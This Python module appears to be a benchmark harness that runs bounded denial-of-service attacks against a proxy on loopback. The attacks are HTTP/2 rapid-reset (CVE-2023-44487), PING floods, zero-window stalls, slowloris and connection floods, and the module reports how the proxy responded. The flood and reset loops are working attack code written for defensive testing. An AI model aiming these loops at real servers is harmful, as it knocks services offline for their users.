"""Bounded attackers for the ``abuse`` and ``soak`` scenarios (issue 11).

    python -m bench.attackers KIND --port P --seconds S [--conns N] ...

Each attack runs for at most ``--seconds`` against one loopback port, from raw
non-blocking sockets (frames built with hyperframe and hpack), then prints one
JSON object on stdout (:func:`bench.tools.parse_attack_report` reads it):

* ``opened``: connections opened; ``connect_failed``: connects that failed;
* ``closed_by_peer``: connections the proxy closed (EOF, RST, or a GOAWAY);
* ``throttled``: connections open at the end whose sends had been blocked for at
  least ``STALL_S`` (the proxy stopped reading them), or, for ``zero-window``,
  connections that got no more DATA than the windows they granted (0);
* ``open_at_end``: connections still open at the end and neither of the above;
* ``closed_by_us``: connections the attacker itself closed (churn, or after a
  GOAWAY it was told about);
* ``goaway``: GOAWAY error codes received -> count; ``work``: what the attack
  sent (``work_unit``: streams, pings, bytes, connections, requests);
  ``max_work_per_conn``: for ``rapid-reset``, the most streams the proxy took on
  one connection before closing it (the GOAWAY's last stream id; what was sent, for a
  close without GOAWAY). A proxy with a reset budget closes each connection after a
  few hundred and the attacker opens another; 0 if none was closed;
* ``statuses``: for ``mcs0-client``, the answers its requests got.

Kinds (the inputs of issue 11):

* ``rapid-reset``: HEADERS ``GET /`` END_STREAM + RST_STREAM(CANCEL) in bursts
  (CVE-2023-44487); reconnects when closed.
* ``ping-flood``: PING frames from a client with a 4 KiB receive buffer that
  never reads.
* ``zero-window``: SETTINGS_INITIAL_WINDOW_SIZE = 0 and ``--streams`` GETs of
  ``--path`` (a large body), never a WINDOW_UPDATE.
* ``slowloris-h1``: ``--conns`` HTTP/1.1 connections sending a partial request
  head, then one more header byte every ``--interval`` seconds.
* ``slowloris-h2``: ``--conns`` connections sending the 24-byte HTTP/2 client
  preface, then nothing (``--with-settings``: an empty SETTINGS frame too).
* ``conn-flood``: connections opened as fast as possible and held silent, up to
  ``--conns``; past that the oldest is closed (RST) and another opened.
* ``mcs0-client``: one h2 request every ``--interval`` seconds to a listener whose
  endpoint accepts no streams (see ``mcs0-endpoint``); records the answer.
* ``mcs0-endpoint``: the endpoint itself, a server (not an attacker) whose
  SETTINGS say MAX_CONCURRENT_STREAMS = 0 and that refuses every stream opened
  anyway (RST_STREAM REFUSED_STREAM); it counts the connections the proxy opens
  to it and writes ``{"accepted": N, "times": [...]}`` to ``--stats``.
"""

from __future__ import annotations

import argparse
import collections
import contextlib
import errno
import json
import os
import selectors
import socket
import struct
import sys
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass, field

from hpack import Decoder, Encoder
from hyperframe.frame import (
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

HOST = "127.0.0.1"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
STALL_S = 1.0  # sends blocked this long = the peer stopped reading us
LINGER_RST = struct.pack("ii", 1, 0)
# RFC 9113 §7 error codes, by number.
ERROR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
               4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR",
               7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR",
               11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}


@dataclass
class Report:
    attack: str
    port: int
    seconds: float = 0.0
    cpu_s: float = 0.0  # the attacker's own CPU time (user + system)
    max_work_per_conn: int = 0  # rapid-reset: the most streams one connection carried
    opened: int = 0
    connect_failed: int = 0
    closed_by_peer: int = 0
    closed_by_us: int = 0
    throttled: int = 0
    open_at_end: int = 0
    work: int = 0
    work_unit: str = ""
    goaway: dict[str, int] = field(default_factory=dict)
    statuses: dict[str, int] = field(default_factory=dict)
    errors: list[str] = field(default_factory=list)

    def error(self, msg: str) -> None:
        if len(self.errors) < 5:
            self.errors.append(msg)


# ------------------------------------------------------------------ frames


def settings_frame(**values: int) -> bytes:
    f = SettingsFrame(0)
    ids = {"initial_window_size": SettingsFrame.INITIAL_WINDOW_SIZE,
           "max_concurrent_streams": SettingsFrame.MAX_CONCURRENT_STREAMS,
           "enable_push": SettingsFrame.ENABLE_PUSH}
    for k, v in values.items():
        f.settings[ids[k]] = v
    return f.serialize()


SETTINGS_ACK = SettingsFrame(0, flags=["ACK"]).serialize()


def headers_frame(stream_id: int, path: str = "/", method: str = "GET",
                  end_stream: bool = True, extra: tuple[tuple[str, str], ...] = ()) -> bytes:
    """One complete HEADERS frame of a request (a fresh encoder: no dynamic-table
    state shared between frames, so the bytes can be sent again with another id)."""
    block = Encoder().encode([(":method", method), (":scheme", "http"), (":path", path),
                              (":authority", HOST), *extra])
    flags = ["END_HEADERS", *(["END_STREAM"] if end_stream else [])]
    return HeadersFrame(stream_id, data=block, flags=flags).serialize()


def with_stream_id(frame: bytes, stream_id: int) -> bytes:
    """The same frame on another stream (bytes 5..9 of the frame header)."""
    return frame[:5] + struct.pack(">I", stream_id & 0x7FFFFFFF) + frame[9:]


class FrameReader:
    """Splits received bytes into frames; keeps what a peer told us that matters here."""

    def __init__(self) -> None:
        self.buf = bytearray()
        self.goaway: int | None = None
        self.goaway_last_stream = 0  # the last stream id the GOAWAY says was processed
        self.settings_to_ack = 0
        self.headers = 0
        self.data_bytes = 0
        self.rst = 0
        self.statuses: list[str] = []
        self.header_streams: list[int] = []  # stream ids of the HEADERS received
        self.decoder = Decoder()

    def feed(self, data: bytes) -> None:
        self.buf += data
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                return
            head, body = bytes(self.buf[:9]), bytes(self.buf[9:9 + length])
            del self.buf[:9 + length]
            try:
                frame, _ = Frame.parse_frame_header(memoryview(head))
            except Exception:  # unknown frame type: ignore, as RFC 9113 §4.1 says
                continue
            ftype = head[3]
            if ftype == 0x7:  # GOAWAY
                frame.parse_body(memoryview(body))
                assert isinstance(frame, GoAwayFrame)
                self.goaway = frame.error_code
                self.goaway_last_stream = frame.last_stream_id
            elif ftype == 0x4 and not head[4] & 0x1:  # SETTINGS, not ACK
                self.settings_to_ack += 1
            elif ftype == 0x1:  # HEADERS: the :status is the first field hpack gives
                self.headers += 1
                self.header_streams.append(frame.stream_id)
                self.statuses.append(_status_of(self.decoder, body, head[4]))
            elif ftype == 0x0:
                self.data_bytes += length
            elif ftype == 0x3:
                self.rst += 1


def _status_of(decoder: Decoder, body: bytes, flags: int) -> str:
    """:status of a response HEADERS frame's block, decoded with the connection's HPACK
    decoder (blocks must be decoded in order); "headers" if it has none or is broken (a
    block continued in CONTINUATION frames is not joined: responses here are small)."""
    if flags & 0x8:  # PADDED: pad length, then the fragment, then the padding
        body = body[1:len(body) - body[0]]
    if flags & 0x20:  # PRIORITY
        body = body[5:]
    with contextlib.suppress(Exception):
        for name, value in decoder.decode(body):
            if name == ":status":
                return str(value)
    return "headers"


# ------------------------------------------------------------------ sockets


def connect(port: int, rcvbuf: int | None = None, timeout: float = 5.0) -> socket.socket:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LINGER_RST)
    s.settimeout(timeout)
    try:
        s.connect((HOST, port))
    except OSError:
        s.close()
        raise
    s.setblocking(False)
    return s


class Conn:
    """A non-blocking connection with an output queue, a frame reader and a stall clock."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        self.out = bytearray()
        self.reader = FrameReader()
        self.closed = False
        self.stalled_since: float | None = None

    def send(self, data: bytes = b"") -> None:
        """Queue ``data`` and send what the kernel takes. Marks the connection closed on
        EPIPE/ECONNRESET; tracks how long sends have been blocked."""
        if data:
            self.out += data
        if not self.out or self.closed:
            return
        try:
            n = self.sock.send(self.out)
        except BlockingIOError:
            n = 0
        except OSError:
            self.closed = True
            return
        del self.out[:n]
        if self.out and n == 0:
            if self.stalled_since is None:
                self.stalled_since = time.monotonic()
        else:
            self.stalled_since = None

    def stalled(self, now: float) -> bool:
        return self.stalled_since is not None and now - self.stalled_since >= STALL_S

    def read(self, limit: int = 1 << 20) -> None:
        """Read what is there (up to ``limit`` bytes); EOF or an error closes."""
        got = 0
        while got < limit and not self.closed:
            try:
                data = self.sock.recv(65536)
            except BlockingIOError:
                return
            except OSError:
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            got += len(data)
            self.reader.feed(data)
            while self.reader.settings_to_ack:
                self.reader.settings_to_ack -= 1
                self.send(SETTINGS_ACK)

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


def _finish(rep: Report, conns: list[Conn], now: float,
            throttled: Callable[[Conn], bool] | None = None) -> None:
    """Count the end state of every connection: closed by the proxy, throttled, open."""
    for c in conns:
        if not c.closed:
            c.read()
        if c.reader.goaway is not None:
            name = ERROR_NAMES.get(c.reader.goaway, str(c.reader.goaway))
            rep.goaway[name] = rep.goaway.get(name, 0) + 1
        if c.closed or c.reader.goaway is not None:
            rep.closed_by_peer += 1
        elif (throttled or (lambda c: c.stalled(now)))(c):
            rep.throttled += 1
        else:
            rep.open_at_end += 1
        c.close()


def _open(rep: Report, port: int, **kw: int) -> Conn | None:
    try:
        c = Conn(connect(port, **kw))
    except OSError as exc:
        rep.connect_failed += 1
        rep.error(f"connect: {exc}")
        return None
    rep.opened += 1
    return c


def _retire(rep: Report, c: Conn, conns: list[Conn]) -> None:
    """A connection the proxy closed or sent GOAWAY on: count it, close it, forget it."""
    if c.reader.goaway is not None:
        name = ERROR_NAMES.get(c.reader.goaway, str(c.reader.goaway))
        rep.goaway[name] = rep.goaway.get(name, 0) + 1
    rep.closed_by_peer += 1
    c.close()
    conns.remove(c)


# ------------------------------------------------------------------ attacks


def rapid_reset(a: argparse.Namespace) -> Report:
    rep = Report("rapid-reset", a.port, work_unit="streams")
    head = headers_frame(1)
    rst = RstStreamFrame(1, error_code=8).serialize()
    started = time.monotonic()
    deadline = started + a.seconds
    conns: list[Conn] = []
    next_id: dict[int, int] = {}
    while time.monotonic() < deadline:
        while len(conns) < a.conns and time.monotonic() < deadline:
            c = _open(rep, a.port)
            if c is None:
                time.sleep(0.05)
                break
            c.send(PREFACE + settings_frame())
            conns.append(c)
            next_id[id(c)] = 1
        for c in list(conns):
            c.read()
            if c.closed or c.reader.goaway is not None:
                # What the proxy took on this connection before closing it: the streams
                # up to the GOAWAY's last stream id (what we sent may be far more: a
                # busy proxy leaves it unread in the socket buffers).
                took = ((c.reader.goaway_last_stream + 1) // 2 if c.reader.goaway is not None
                        else next_id[id(c)] // 2)
                rep.max_work_per_conn = max(rep.max_work_per_conn, took)
                _retire(rep, c, conns)
                continue
            if c.out:  # the proxy is not taking what we send: wait for it
                c.send()
                continue
            if _over_rate(a, rep.work + a.burst, started):
                continue
            sid = next_id[id(c)]
            burst = bytearray()
            for k in range(a.burst):
                s = sid + 2 * k
                burst += with_stream_id(head, s) + with_stream_id(rst, s)
            next_id[id(c)] = sid + 2 * a.burst
            c.send(bytes(burst))
            rep.work += a.burst
        if not conns:
            time.sleep(0.01)
        else:
            _wait_io(conns, 0.005 if a.rate else 0.001)
    _finish(rep, conns, time.monotonic())
    return rep


def _over_rate(a: argparse.Namespace, total: int, started: float) -> bool:
    """Whether ``total`` units so far would exceed ``a.rate`` per connection per second."""
    return bool(a.rate) and total > a.rate * a.conns * (time.monotonic() - started)


def ping_flood(a: argparse.Namespace) -> Report:
    rep = Report("ping-flood", a.port, work_unit="pings")
    ping = PingFrame(0, opaque_data=b"12345678").serialize()
    batch = ping * 1000
    started = time.monotonic()
    deadline = started + a.seconds
    conns: list[Conn] = []
    for _ in range(a.conns):
        c = _open(rep, a.port, rcvbuf=4096)
        if c is not None:
            c.send(PREFACE + settings_frame() + SETTINGS_ACK)
            conns.append(c)
    while time.monotonic() < deadline and any(not c.closed for c in conns):
        for c in conns:
            if c.closed:
                continue
            before = len(c.out)
            if not c.out:
                if _over_rate(a, rep.work + 1000, started):
                    continue
                c.send(batch)
                rep.work += 1000 - len(c.out) // len(ping)
            else:
                c.send()
                rep.work += (before - len(c.out)) // len(ping)
        time.sleep(0.05 if all(c.out for c in conns) else 0.005 if a.rate else 0.001)
    # Never read during the attack; now look for what the proxy said (GOAWAY, EOF).
    for c in conns:
        end = time.monotonic() + 1.0
        while not c.closed and c.reader.goaway is None and time.monotonic() < end:
            c.read(16 << 20)
            time.sleep(0.01)
    now = time.monotonic()
    _finish(rep, conns, now, throttled=lambda c: c.stalled(now))
    return rep


def zero_window(a: argparse.Namespace) -> Report:
    rep = Report("zero-window", a.port, work_unit="streams")
    deadline = time.monotonic() + a.seconds
    conns: list[Conn] = []
    for _ in range(a.conns):
        c = _open(rep, a.port)
        if c is None:
            continue
        frames = bytearray(PREFACE + settings_frame(initial_window_size=0))
        for k in range(a.streams):
            frames += headers_frame(1 + 2 * k, path=a.path)
        c.send(bytes(frames))
        rep.work += a.streams
        conns.append(c)
    while time.monotonic() < deadline and any(not c.closed for c in conns):
        for c in conns:
            c.read()
            c.send()
        _wait_io(conns, 0.1)
    # Stream windows of 0 allow no DATA at all: a connection that got none is held at no
    # cost to anyone but us (throttled); one that got DATA past the window is not.
    _finish(rep, conns, time.monotonic(), throttled=lambda c: c.reader.data_bytes == 0)
    rep.statuses = _count([s for c in conns for s in c.reader.statuses])
    return rep


class Connector:
    """Non-blocking connects, at most ``pending_max`` in flight; one that has not
    completed within ``timeout`` s counts as failed (a full accept queue drops SYNs)."""

    def __init__(self, rep: Report, port: int, sel: selectors.BaseSelector,
                 pending_max: int = 512, timeout: float = 5.0) -> None:
        self.rep, self.port, self.sel = rep, port, sel
        self.pending: dict[socket.socket, float] = {}
        self.pending_max, self.timeout = pending_max, timeout

    def start(self, n: int) -> int:
        """Start up to ``n`` connects (fewer if too many are in flight); how many started."""
        started = 0
        while started < n and len(self.pending) < self.pending_max:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LINGER_RST)
            s.setblocking(False)
            err = s.connect_ex((HOST, self.port))
            if err not in (0, errno.EINPROGRESS):
                s.close()
                self.rep.connect_failed += 1
                self.rep.error(f"connect: {os.strerror(err)}")
                started += 1
                continue
            self.pending[s] = time.monotonic()
            self.sel.register(s, selectors.EVENT_WRITE, None)
            started += 1
        return started

    def connected(self, s: socket.socket) -> Conn | None:
        """``s`` became writable: a Conn if the connect succeeded."""
        self.pending.pop(s, None)
        self.sel.unregister(s)
        err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if err:
            s.close()
            self.rep.connect_failed += 1
            self.rep.error(f"connect: {os.strerror(err)}")
            return None
        self.rep.opened += 1
        c = Conn(s)
        self.sel.register(s, selectors.EVENT_READ, c)
        return c

    def expire(self, now: float) -> None:
        for s, t0 in list(self.pending.items()):
            if now - t0 > self.timeout:
                del self.pending[s]
                self.sel.unregister(s)
                s.close()
                self.rep.connect_failed += 1
                self.rep.error("connect: timed out")

    def close(self) -> None:
        for s in self.pending:
            s.close()
        self.pending.clear()


def _hold(a: argparse.Namespace, rep: Report, first: bytes, trickle: bytes) -> Report:
    """Open ``a.conns`` connections (non-blocking, ``a.batch`` started per step), send
    ``first`` on each, then one byte of ``trickle`` per connection every ``a.interval`` s."""
    deadline = time.monotonic() + a.seconds
    sel = selectors.DefaultSelector()
    conn = Connector(rep, a.port, sel)
    conns: list[Conn] = []
    # Every connection sends its next byte ``interval`` after the last, so a FIFO of
    # (due time, connection) stays in order: no scan of every connection per step.
    due: collections.deque[tuple[float, Conn]] = collections.deque()
    pos: dict[int, int] = {}
    tried = 0
    while time.monotonic() < deadline:
        if tried < a.conns:
            tried += conn.start(min(a.batch, a.conns - tried))
        for key, _ev in sel.select(timeout=0.02):
            if key.data is None:
                c = conn.connected(key.fileobj)  # type: ignore[arg-type]
                if c is None:
                    continue
                c.send(first)
                conns.append(c)
                due.append((time.monotonic() + a.interval, c))
                pos[id(c)] = 0
                continue
            c = key.data
            c.read()
            if c.closed:
                sel.unregister(c.sock)
        now = time.monotonic()
        conn.expire(now)
        while trickle and due and due[0][0] <= now:
            _, c = due.popleft()
            if c.closed:
                continue
            i = pos[id(c)] % len(trickle)
            c.send(trickle[i:i + 1])
            pos[id(c)] += 1
            rep.work += 1
            due.append((now + a.interval, c))
    conn.close()
    sel.close()
    _finish(rep, conns, time.monotonic(), throttled=lambda c: False)
    return rep


def slowloris_h1(a: argparse.Namespace) -> Report:
    rep = Report("slowloris-h1", a.port, work_unit="bytes")
    return _hold(a, rep, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n", b"X-a: b\r\n")


def slowloris_h2(a: argparse.Namespace) -> Report:
    """The 24-byte client preface and nothing more (``--with-settings``: and an empty
    SETTINGS frame, the rest of the connection preface, then nothing: an idle h2
    connection)."""
    rep = Report("slowloris-h2", a.port, work_unit="bytes")
    return _hold(a, rep, PREFACE + (settings_frame() if a.with_settings else b""), b"")


def conn_flood(a: argparse.Namespace) -> Report:
    rep = Report("conn-flood", a.port, work_unit="connections")
    deadline = time.monotonic() + a.seconds
    conns: list[Conn] = []
    sel = selectors.DefaultSelector()
    conn = Connector(rep, a.port, sel)
    step = 0.01
    while time.monotonic() < deadline:
        t0 = time.monotonic()
        want = a.batch if not a.rate else max(1, round(a.rate * step))
        rep.work += conn.start(want)
        for key, _ev in sel.select(timeout=step):
            if key.data is None:
                c = conn.connected(key.fileobj)  # type: ignore[arg-type]
                if c is None:
                    continue
                conns.append(c)
                while len(conns) > a.conns:  # churn: the oldest goes (RST)
                    old = conns.pop(0)
                    sel.unregister(old.sock)
                    rep.closed_by_us += 1
                    old.close()
                continue
            c = key.data
            c.read()
            if c.closed:
                sel.unregister(c.sock)
                rep.closed_by_peer += 1
                conns.remove(c)
                c.close()
        conn.expire(time.monotonic())
        rest = step - (time.monotonic() - t0)
        if rest > 0:
            time.sleep(rest)
    conn.close()
    sel.close()
    _finish(rep, conns, time.monotonic(), throttled=lambda c: False)
    return rep


def mcs0_client(a: argparse.Namespace) -> Report:
    """One GET every ``interval`` s, each on a new connection, waiting up to ``wait`` s
    for the answer: a status (the proxy's 503 is right), a reset, a close, or none."""
    rep = Report("mcs0-client", a.port, work_unit="requests")
    deadline = time.monotonic() + a.seconds
    conns: list[Conn] = []
    while time.monotonic() < deadline:
        c = _open(rep, a.port)
        if c is None:
            time.sleep(a.interval)
            continue
        c.send(PREFACE + settings_frame() + headers_frame(1))
        rep.work += 1
        sent = time.monotonic()
        end = min(deadline, sent + a.wait)
        while time.monotonic() < end and not c.closed and not c.reader.headers \
                and not c.reader.rst and c.reader.goaway is None:
            c.read()
            c.send()
            _wait_io([c], 0.05)
        if c.reader.headers:
            answer = c.reader.statuses[0]
        elif c.reader.rst:
            answer = "reset"
        elif c.reader.goaway is not None or c.closed:
            answer = "closed"
        else:
            answer = "no answer"
        rep.statuses[answer] = rep.statuses.get(answer, 0) + 1
        # Answered: the client leaves (closes); unanswered ones are left open.
        if answer != "no answer":
            rep.closed_by_us += 1
            c.close()
        else:
            conns.append(c)
        rest = a.interval - (time.monotonic() - sent)
        if rest > 0:
            time.sleep(min(rest, max(0.0, deadline - time.monotonic())))
    _finish(rep, conns, time.monotonic(), throttled=lambda c: False)
    return rep


def mcs0_endpoint(a: argparse.Namespace) -> Report:
    """The endpoint that accepts no streams; runs until ``a.seconds`` have passed."""
    rep = Report("mcs0-endpoint", a.port, work_unit="streams refused")
    lst = socket.socket()
    lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    lst.bind((HOST, a.port))
    lst.listen(1024)
    lst.setblocking(False)
    sel = selectors.DefaultSelector()
    sel.register(lst, selectors.EVENT_READ, None)
    start = time.monotonic()
    deadline = start + a.seconds
    times: list[float] = []
    conns: list[Conn] = []
    last_write = 0.0
    hello = settings_frame(max_concurrent_streams=0)
    while time.monotonic() < deadline:
        for key, _ev in sel.select(timeout=0.05):
            if key.data is None:
                while True:
                    try:
                        s, _ = lst.accept()
                    except BlockingIOError:
                        break
                    s.setblocking(False)
                    c = Conn(s)
                    c.send(hello)
                    conns.append(c)
                    sel.register(s, selectors.EVENT_READ, c)
                    times.append(round(time.monotonic() - start, 3))
                    rep.opened += 1
            else:
                c = key.data
                try:
                    data = c.sock.recv(65536)
                except OSError:
                    data = b""
                if not data:
                    sel.unregister(c.sock)
                    c.close()
                    conns.remove(c)
                    rep.closed_by_peer += 1
                elif data.startswith(PREFACE):
                    c.reader.feed(data[len(PREFACE):])
                else:
                    c.reader.feed(data)
                while c.reader.settings_to_ack:
                    c.reader.settings_to_ack -= 1
                    c.send(SETTINGS_ACK)
                # A stream past our limit of 0: refused, as RFC 9113 §5.1.2 says.
                for sid in c.reader.header_streams:
                    c.send(RstStreamFrame(sid, error_code=7).serialize())
                    rep.work += 1
                c.reader.header_streams.clear()
        now = time.monotonic()
        if a.stats and now - last_write >= 0.2:
            _write_stats(a.stats, rep.opened, times, len(conns))
            last_write = now
    if a.stats:
        _write_stats(a.stats, rep.opened, times, len(conns))
    rep.open_at_end = len(conns)
    return rep


def _write_stats(path: str, accepted: int, times: list[float], open_now: int) -> None:
    tmp = path + ".tmp"
    with open(tmp, "w") as f:
        json.dump({"accepted": accepted, "open": open_now, "times": times}, f)
    os.replace(tmp, path)


def _wait_io(conns: list[Conn], timeout: float) -> None:
    socks = [c.sock for c in conns if not c.closed]
    if not socks:
        time.sleep(timeout)
        return
    import select

    with contextlib.suppress(OSError, ValueError):
        select.select(socks, [], [], timeout)


def _count(items: list[str]) -> dict[str, int]:
    out: dict[str, int] = {}
    for i in items:
        out[i] = out.get(i, 0) + 1
    return out


ATTACKS: dict[str, Callable[[argparse.Namespace], Report]] = {
    "rapid-reset": rapid_reset,
    "ping-flood": ping_flood,
    "zero-window": zero_window,
    "slowloris-h1": slowloris_h1,
    "slowloris-h2": slowloris_h2,
    "conn-flood": conn_flood,
    "mcs0-client": mcs0_client,
    "mcs0-endpoint": mcs0_endpoint,
}


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m bench.attackers")
    p.add_argument("kind", choices=sorted(ATTACKS))
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--seconds", type=float, default=10.0)
    p.add_argument("--conns", type=int, default=1)
    p.add_argument("--burst", type=int, default=100, help="rapid-reset: streams per send")
    p.add_argument("--streams", type=int, default=4, help="zero-window: GETs per connection")
    p.add_argument("--path", default="/big", help="zero-window: the large response")
    p.add_argument("--interval", type=float, default=5.0,
                   help="slowloris: seconds between bytes; mcs0-client: between requests")
    p.add_argument("--wait", type=float, default=8.0, help="mcs0-client: answer deadline")
    p.add_argument("--batch", type=int, default=100, help="connections opened per step")
    p.add_argument("--rate", type=float, default=0.0,
                   help="at most this many per second (0: as fast as possible): conn-flood "
                   "connections; rapid-reset streams and ping-flood PINGs per connection")
    p.add_argument("--with-settings", action="store_true",
                   help="slowloris-h2: send the SETTINGS frame after the preface too")
    p.add_argument("--stats", help="mcs0-endpoint: JSON stats file, rewritten every 0.2 s")
    a = p.parse_args(argv)
    a.seconds = max(0.1, a.seconds)
    with contextlib.suppress(ValueError, OSError):
        import resource

        _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    started = time.monotonic()
    try:
        rep = ATTACKS[a.kind](a)
    except OSError as exc:
        rep = Report(a.kind, a.port)
        rep.error(f"{type(exc).__name__}: {errno.errorcode.get(exc.errno or 0, '')} {exc}")
    rep.seconds = round(time.monotonic() - started, 3)
    import resource

    ru = resource.getrusage(resource.RUSAGE_SELF)
    rep.cpu_s = round(ru.ru_utime + ru.ru_stime, 3)
    print(json.dumps(asdict(rep)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
